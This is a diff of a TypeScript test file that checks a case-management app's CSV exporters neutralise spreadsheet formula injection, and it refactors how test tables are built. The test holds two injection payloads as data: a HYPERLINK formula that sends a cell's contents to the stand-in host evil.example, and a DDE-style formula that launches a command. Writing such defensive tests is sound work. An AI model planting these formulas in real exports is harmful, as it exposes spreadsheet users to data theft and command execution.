@@ -10,6 +10,7 @@ import { chartCsv } from "@/components/charts/chart-csv";
 import { documentCsv, type PublishedDocument } from "@/lib/publishing/open-data";
 import { cellValue, isFormulaLike } from "@/tests/support/csv-formulas";
 import { caseFileZip, type CaseFile } from "./case-file";
+import { caseTables } from "./case-tables";
 import { toCsv } from "./csv";
 
 /** A record whose every field holds `value`, except the nested shapes the export reads through. */
@@ -27,10 +28,9 @@ function recordOf(value: unknown): Record<string, unknown> {
   return new Proxy(record, { get: (target, key) => (typeof key === "string" ? (key in nested ? nested[key] : key in target ? target[key] : value) : undefined) });
 }
 
+/** Every export table of every section, each with one row whose every field holds `value`. */
 function caseFileOf(value: unknown): CaseFile {
-  const one = () => [recordOf(value)];
-  const file = { incident: recordOf(value), findings: one(), dataCategories: one(), estimates: one(), timeline: one(), dailyRecords: one(), figures: one(), statements: one(), sources: one(), transitions: one(), sanctions: one(), proposals: one(), clocks: one() };
-  return file as unknown as CaseFile;
+  return Object.values(caseTables).map((t) => ({ file: t.file, columns: t.columns, rows: [recordOf(value)] }));
 }
 
 function documentOf(value: unknown): PublishedDocument {
@@ -69,8 +69,7 @@ describe("every CSV writer", () => {
 
   it("the reported payloads in a finding's legal articles and evidence references reach findings.csv defused", () => {
     const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"];
-    const file = caseFileOf("x");
-    file.findings = [{ ...recordOf("x"), legalArticles: payloads, evidenceRefs: payloads }] as unknown as CaseFile["findings"];
+    const file = caseFileOf("x").map((t) => (t.file === "findings" ? { ...t, rows: [{ ...recordOf("x"), legalArticles: payloads, evidenceRefs: payloads }] } : t));
     const [header, row] = parse(strFromU8(unzipSync(caseFileZip(file))["findings.csv"]!)) as string[][];
     for (const column of ["legalArticles", "evidenceRefs"]) {
       expect(row?.[header!.indexOf(column)]).toBe(`'${payloads[0]}\n'${payloads[1]}`);
@@ -81,7 +80,7 @@ describe("every CSV writer", () => {
 // A new CSV download must use these writers: every source file that sends or builds text/csv
 // imports one of them, or only reads CSV (uploads).
 const WRITER_MODULES = ["@/lib/export/csv", "@/lib/publishing/open-data", "@/lib/export/case-file", "./chart-csv", "@/components/charts/chart-csv"];
-const CSV_READERS = new Set(["components/workspace/case/series-import.tsx", "app/api/cases/[slug]/series/import/route.ts"]);
+const CSV_READERS = new Set(["components/series/series-import.tsx", "app/api/cases/[slug]/series/import/route.ts"]);
 
 function sourceFiles(dir: string): string[] {
   return readdirSync(dir).flatMap((name) => {
